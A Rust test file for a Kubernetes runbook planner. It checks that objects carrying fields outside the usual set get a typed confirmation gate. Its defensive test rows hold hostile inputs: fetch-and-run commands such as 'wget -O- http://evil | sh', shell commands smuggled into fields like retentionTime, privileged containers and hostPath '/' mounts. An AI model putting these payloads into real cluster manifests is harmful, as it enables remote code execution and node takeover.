//! What a stranger's document may put into a new object: kinds × fields, each row a document of its own, bound on the
//! sample fleet. A row is one field beside what shipped runbooks set; its gate is typed and its plan names the field.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::fleet::ObjectRef;
use crate::runbook::language::document::Runbook;
use crate::runbook::language::sample_fleet_data;
use crate::runbook::plan::bind::bind;
use crate::runbook::plan::{Confirm, PlannedStep};

/// One step `k8s.create` (or another action) of a document called like a shipped runbook.
fn planned(action: &str, with: &Value) -> PlannedStep {
    let document = format!(
        r#"
runbook: v1
id: restart-component
version: "1.0.0"
title: {{en: x}}
summary: {{en: x}}
inputs:
  - {{name: tidbCluster, type: tidb-cluster, prompt: {{en: x}}}}
facts: {{}}
preflight: []
phases:
  - id: make
    title: {{en: Make}}
    steps:
      - id: one
        title: {{en: Note something}}
        action: {action}
        with: {with}
        confirm: once
        timeout: {{totalS: 60, stalledS: 60}}
"#
    );
    let runbook = Runbook::read("restart-component", &document).unwrap_or_else(|error| panic!("{with}: {error}"));
    let given = BTreeMap::from([("tidbCluster".to_owned(), sample_fleet_data::TARGET.to_owned())]);
    let seen = sample_fleet_data::observations().remove(0);
    let plan = bind(&runbook, &given, &seen).unwrap_or_else(|error| panic!("{with}: {error}"));
    plan.steps.into_iter().next().expect("one step")
}

fn at(place: &str) -> Value {
    json!(ObjectRef::parse(place).expect("a place"))
}

fn created(object: &Value) -> PlannedStep {
    let name = object["metadata"]["name"].as_str().unwrap_or("made");
    planned("k8s.create", &json!({"target": at(&format!("sample/db/{name}")), "object": object}))
}

fn base(kind: &str) -> Value {
    let pod = json!({"restartPolicy": "Always", "automountServiceAccountToken": false,
        "securityContext": {"runAsNonRoot": true, "runAsUser": 65534},
        "containers": [{"name": "probe", "image": "busybox:1.36", "command": ["sleep", "3600"],
            "ports": [{"containerPort": 2379, "protocol": "TCP"}],
            "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}}}]});
    match kind {
        "TidbCluster" => json!({"apiVersion": "pingcap.com/v1alpha1", "kind": kind, "spec": {
            "version": "v8.5.4", "pvReclaimPolicy": "Retain", "discovery": {},
            "pd": {"replicas": 3, "maxFailoverCount": 0, "baseImage": "pingcap/pd", "config": {}, "requests": {"storage": "10Gi"}},
            "tidb": {"replicas": 2, "config": {"security": {"cluster-verify-cn": ["TiDB"]}}, "service": {"type": "ClusterIP"}}}}),
        "TidbMonitor" => json!({"apiVersion": "pingcap.com/v1alpha1", "kind": kind, "spec": {
            "clusters": [{"name": "basic", "namespace": "db"}], "externalLabels": {"cluster": "a"},
            "prometheus": {"baseImage": "prom/prometheus", "version": "v2.27.1", "service": {"type": "ClusterIP"}}}}),
        "Pod" => {
            json!({"apiVersion": "v1", "kind": kind, "metadata": {"labels": {"tidepilot/probe": "x"}}, "spec": pod})
        }
        "Deployment" => json!({"apiVersion": "apps/v1", "kind": kind, "spec": {"replicas": 1,
            "selector": {"matchLabels": {"app.kubernetes.io/name": "thanos-query"}},
            "template": {"metadata": {"labels": {"app.kubernetes.io/name": "thanos-query"}}, "spec": {"containers": [
                {"name": "q", "image": "thanosio/thanos:v0.30.2", "args": ["query", "--store=a.b:10901"]}]}}}}),
        "Service" => json!({"apiVersion": "v1", "kind": kind, "spec": {"type": "ClusterIP", "clusterIP": "None",
            "selector": {"tidepilot/probe": "x"}, "ports": [{"name": "p", "port": 2379, "protocol": "TCP"}]}}),
        "ConfigMap" => json!({"apiVersion": "v1", "kind": kind, "data": {"a": "b"}}),
        "Namespace" => json!({"apiVersion": "v1", "kind": kind}),
        "Issuer" => {
            json!({"apiVersion": "cert-manager.io/v1", "kind": kind, "spec": {"ca": {"secretName": "made-ca-secret"}}})
        }
        "Certificate" => {
            json!({"apiVersion": "cert-manager.io/v1", "kind": kind, "spec": {"secretName": "made", "commonName": "TiDB",
            "duration": "24h", "usages": ["server auth"], "dnsNames": ["a.b"], "issuerRef": {"name": "made", "kind": "Issuer"}}})
        }
        other => panic!("{other}"),
    }
}

/// Sets what is at a path of names, making what is missing; an empty path replaces the whole.
fn set(object: &mut Value, path: &str, value: Value) {
    let at = path.split('/').filter(|part| !part.is_empty()).fold(object, |at, part| match part.parse::<usize>() {
        Ok(index) if at.is_array() => &mut at[index],
        Ok(_) | Err(_) => &mut at[part.replace("~1", "/")],
    });
    *at = value;
}

const KINDS: [&str; 9] =
    ["TidbCluster", "TidbMonitor", "Pod", "Deployment", "Service", "ConfigMap", "Namespace", "Issuer", "Certificate"];

#[test]
fn what_shipped_runbooks_set_goes_with_the_gate_of_its_document() {
    for kind in KINDS {
        let step = created(&base(kind));
        assert!(matches!(step.confirm, Confirm::Plain { .. }), "{kind}: {:?} {}", step.confirm, step.why);
    }
}

#[test]
fn any_other_field_of_a_new_object_is_named_and_typed() {
    let evil = || json!([{"name": "x", "image": "evil/tool:1"}]);
    let pod = |path: &'static str, value: Value| {
        [("Pod", "/spec", path, value.clone()), ("Deployment", "/spec/template/spec", path, value)]
    };
    let mut rows: Vec<(&str, String, Value)> = [
        ("TidbCluster", "/spec/pd/baseImage", json!("evil/pd")),
        ("TidbCluster", "/spec/pd/baseImage", json!("pingcap/tikv")),
        ("TidbCluster", "/spec/pd/baseImage", json!("pingcap/pd/../../evil/pd")),
        ("TidbCluster", "/spec/pd/image", json!("pingcap/pd:v8.5.4")),
        ("TidbCluster", "/spec/tikv/additionalContainers", evil()),
        ("TidbCluster", "/spec/tikv/initContainers", evil()),
        ("TidbCluster", "/spec/pd/additionalVolumes", json!([{"name": "v", "hostPath": {"path": "/"}}])),
        ("TidbCluster", "/spec/pd/additionalVolumeMounts", json!([{"name": "v", "mountPath": "/host"}])),
        ("TidbCluster", "/spec/serviceAccount", json!("admin")),
        ("TidbCluster", "/spec/pd/serviceAccount", json!("admin")),
        ("TidbCluster", "/spec/pd/podSecurityContext", json!({"runAsUser": 0})),
        ("TidbCluster", "/spec/podSecurityContext", json!({"sysctls": [{"name": "a", "value": "b"}]})),
        ("TidbCluster", "/spec/pd/hostNetwork", json!(true)),
        ("TidbCluster", "/spec/tikv/privileged", json!(true)),
        ("TidbCluster", "/spec/tidb/env", json!([{"name": "LD_PRELOAD", "value": "/x"}])),
        ("TidbCluster", "/spec/tidb/lifecycle", json!({"postStart": {"exec": {"command": ["sh"]}}})),
        ("TidbCluster", "/spec/tidb/initializer", json!({"createPassword": true})),
        ("TidbCluster", "/spec/tidb/slowLogTailer", json!({"image": "evil"})),
        ("TidbCluster", "/spec/helper/image", json!("evil")),
        ("TidbCluster", "/spec/discovery/serviceAccount", json!("admin")),
        ("TidbCluster", "/spec/tidb/config/security/skip-grant-table", json!(true)),
        ("TidbCluster", "/spec/tidb/config", json!("[security]\nskip-grant-table = true")),
        ("TidbCluster", "/spec/tidb/plugins", json!(["evil-1"])),
        ("TidbCluster", "/spec/tidb/service/type", json!("LoadBalancer")),
        ("TidbCluster", "/spec/tidb/service/externalTrafficPolicy", json!("Local")),
        ("TidbCluster", "/spec/pvReclaimPolicy", json!("Delete")),
        ("TidbCluster", "/spec/enablePVReclaim", json!(true)),
        ("TidbCluster", "/spec/pd/nodeSelector", json!({"a": "b"})),
        ("TidbCluster", "/spec/nodeSelector", json!({"a": "b"})),
        ("TidbCluster", "/spec/pd/startUpScriptVersion", json!("v2")),
        ("TidbCluster", "/spec/pdAddresses", json!(["http://evil:2379"])),
        ("TidbCluster", "/spec/somethingNew", json!({"a": 1})),
        ("TidbCluster", "/status/clusterID", json!("42")),
        ("TidbCluster", "/metadata/annotations", json!({"tidb.pingcap.com/force-upgrade": "true"})),
        ("TidbCluster", "/metadata/labels", json!({"a": "b"})),
        ("TidbCluster", "/metadata/finalizers", json!(["a/b"])),
        ("TidbMonitor", "/spec/prometheus/baseImage", json!("evil/prometheus")),
        ("TidbMonitor", "/spec/grafana", json!({"baseImage": "evil/grafana"})),
        ("TidbMonitor", "/spec/prometheus/service/type", json!("NodePort")),
        ("TidbMonitor", "/spec/prometheus/config", json!({"commandOptions": ["--web.enable-admin-api"]})),
        ("TidbMonitor", "/spec/prometheus/remoteWrite", json!([{"url": "http://evil"}])),
        ("TidbMonitor", "/spec/prometheus/retentionTime", json!("15d; wget -qO- http://evil | sh #")),
        ("TidbMonitor", "/spec/prometheus/logLevel", json!("info; sh")),
        ("TidbMonitor", "/spec/thanos/objectStorageConfig", json!({"name": "x", "key": "objectstorage.yaml"})),
        ("TidbMonitor", "/spec/clusterScoped", json!(true)),
        ("TidbMonitor", "/spec/pvReclaimPolicy", json!("Delete")),
        ("TidbMonitor", "/spec/additionalContainers", evil()),
        ("Service", "/spec/type", json!("LoadBalancer")),
        ("Service", "/spec/type", json!("NodePort")),
        ("Service", "/spec/type", json!("ExternalName")),
        ("Service", "/spec/externalName", json!("evil.example")),
        ("Service", "/spec/externalIPs", json!(["10.0.0.1"])),
        ("Service", "/spec/clusterIP", json!("10.96.0.10")),
        ("Service", "/spec/selector", json!({"app.kubernetes.io/component": "pd"})),
        ("Service", "/spec/ports/0/nodePort", json!(30000)),
        ("Service", "/metadata/annotations", json!({"service.beta.kubernetes.io/x": "y"})),
        (
            "ConfigMap",
            "/metadata/labels",
            json!({"app.kubernetes.io/managed-by": "tidepilot", "tidepilot/state": "open"}),
        ),
        ("ConfigMap", "/metadata/labels", json!({"tidepilot/approval": "x"})),
        ("ConfigMap", "/metadata/name", json!("tidepilot-run-20261129-000000-0")),
        (
            "ConfigMap",
            "/metadata/ownerReferences",
            json!([{"kind": "Pod", "name": "x", "uid": "u", "apiVersion": "v1"}]),
        ),
        ("Namespace", "/metadata/labels", json!({"pod-security.kubernetes.io/enforce": "privileged"})),
        ("Issuer", "/spec", json!({"acme": {"server": "https://evil"}})),
        ("Issuer", "/spec", json!({"vault": {"server": "https://evil"}})),
        ("Certificate", "/spec/secretName", json!("somebody-elses")),
        ("Certificate", "/spec/issuerRef/kind", json!("ClusterIssuer")),
        ("Certificate", "/spec/secretTemplate", json!({"annotations": {"reflector": "true"}})),
        ("Certificate", "/spec/keystores", json!({"jks": {"create": true}})),
    ]
    .into_iter()
    .map(|(kind, path, value)| (kind, path.to_owned(), value))
    .collect();
    let in_pods = [
        pod("/containers/0/image", json!("evil/tool:1")),
        pod("/containers/0/image", json!("evil.example/busybox:1.36")),
        pod("/containers/0/image", json!("busybox@sha256:0123")),
        pod("/containers/0/image", json!("busybox")),
        pod("/containers/0/command", json!(["sh", "-ec", "wget -O- http://evil | sh"])),
        pod("/containers/0/command", json!(["sh", "-ec", "--store=x; wget evil"])),
        pod(
            "/containers/0/command",
            json!(["sh", "-ec", "for port in 1; do httpd -p $port -h /tmp; done; sh; exec sleep 3600"]),
        ),
        pod("/containers/0/args", json!(["--objstore.config=x"])),
        pod("/containers/0/args", json!(["--objstore.config-file=/var/run/secrets/x"])),
        pod("/containers/0/image", json!("evil/tidb-monitor-initializer:v8.5.4")),
        pod("/containers/0/env", json!([{"name": "GF_TIDB_PROMETHEUS_URL", "value": "http://a',x,e;s,y"}])),
        pod(
            "/containers/0/env",
            json!([{"name": "GF_TIDB_PROMETHEUS_URL", "valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}}]),
        ),
        pod("/initContainers", json!([{"name": "x", "image": "grafana/grafana:1", "command": ["sh", "-c", "id"]}])),
        pod("/containers/0/env", json!([{"name": "A", "value": "b"}])),
        pod("/containers/0/envFrom", json!([{"secretRef": {"name": "db-ca"}}])),
        pod("/containers/0/lifecycle", json!({"postStart": {"exec": {"command": ["sh"]}}})),
        pod("/containers/0/livenessProbe", json!({"exec": {"command": ["sh"]}})),
        pod("/containers/0/securityContext", json!({"privileged": true})),
        pod("/containers/0/securityContext", json!({"capabilities": {"add": ["SYS_ADMIN"]}})),
        pod("/containers/0/volumeMounts", json!([{"name": "v", "mountPath": "/x"}])),
        pod("/containers/0/ports", json!([{"containerPort": 80, "hostPort": 80}])),
        pod("/initContainers", evil()),
        pod("/ephemeralContainers", evil()),
        pod("/volumes", json!([{"name": "v", "hostPath": {"path": "/"}}])),
        pod("/volumes", json!([{"name": "v", "secret": {"secretName": "x"}}])),
        pod("/volumes", json!([{"name": "v", "projected": {"sources": []}}])),
        pod("/serviceAccountName", json!("admin")),
        pod("/automountServiceAccountToken", json!(true)),
        pod("/hostNetwork", json!("true")),
        pod("/hostPID", json!(true)),
        pod("/shareProcessNamespace", json!(true)),
        pod("/securityContext", json!({"runAsUser": 0})),
        pod("/securityContext", json!({"sysctls": []})),
        pod("/nodeName", json!("master")),
        pod("/tolerations", json!([{"operator": "Exists"}])),
        pod("/runtimeClassName", json!("x")),
        pod("/priorityClassName", json!("system-node-critical")),
    ];
    for (kind, root, path, value) in in_pods.into_iter().flatten() {
        rows.push((kind, format!("{root}{path}"), value));
    }
    for labels in [json!({"app.kubernetes.io/component": "pd"}), json!({"app.kubernetes.io/name": "tidb-cluster"})] {
        rows.push(("Pod", "/metadata/labels".to_owned(), labels.clone()));
        rows.push(("Deployment", "/spec/template/metadata/labels".to_owned(), labels));
    }
    for (kind, path, value) in rows {
        let mut object = base(kind);
        set(&mut object, &path, value.clone());
        let step = created(&object);
        let field = path.split('/').rfind(|part| part.parse::<usize>().is_err()).unwrap_or_default();
        assert!(matches!(step.confirm, Confirm::Typed { .. }), "{kind} {path} = {value}: {}", step.why);
        let named = step.why.contains(&format!("Typed: it makes a {kind} with ")) && step.why.contains(field);
        assert!(named, "{kind} {path} = {value}: {}", step.why);
    }
}

#[test]
fn what_another_hand_made_is_not_taken_away_on_a_plain_yes() {
    let deleted = |kind: &str, name: &str| {
        planned("k8s.delete", &json!({"target": at(&format!("sample/db/{name}")), "kind": kind}))
    };
    for kind in [
        "ConfigMap",
        "Service",
        "Deployment",
        "Role",
        "RoleBinding",
        "ServiceAccount",
        "TidbMonitor",
        "Issuer",
        "Certificate",
        "Pod",
    ] {
        let step = deleted(kind, "theirs");
        assert!(matches!(step.confirm, Confirm::Typed { .. }), "{kind}: {:?}", step.confirm);
        assert!(step.why.contains("theirs, which this run did not make"), "{kind}: {}", step.why);
    }
    // Its StatefulSet makes it anew.
    assert!(matches!(deleted("Pod", "basic-tikv-2").confirm, Confirm::Plain { .. }));
    assert!(matches!(deleted("Pod", "basic-tikv-x").confirm, Confirm::Typed { .. }));
}

#[test]
fn a_secret_that_leaves_its_namespace_is_typed_whatever_is_in_it() {
    let copied = |to: &str, keys: &[&str]| {
        planned("k8s.copy-secret", &json!({"from": at("sample/db/x"), "target": at(to), "keys": keys}))
    };
    for (to, keys, typed) in
        [("sample/db/copy", &["tls.key"][..], false), ("sample/new/copy", &["ca.crt", "tls.crt"], true)]
    {
        let step = copied(to, keys);
        assert_eq!(matches!(step.confirm, Confirm::Typed { .. }), typed, "{to} {keys:?} {}", step.why);
        assert_eq!(
            step.why.contains(&format!("leaves its namespace: {} of Secret", keys.join(", "))),
            typed,
            "{}",
            step.why
        );
    }
}
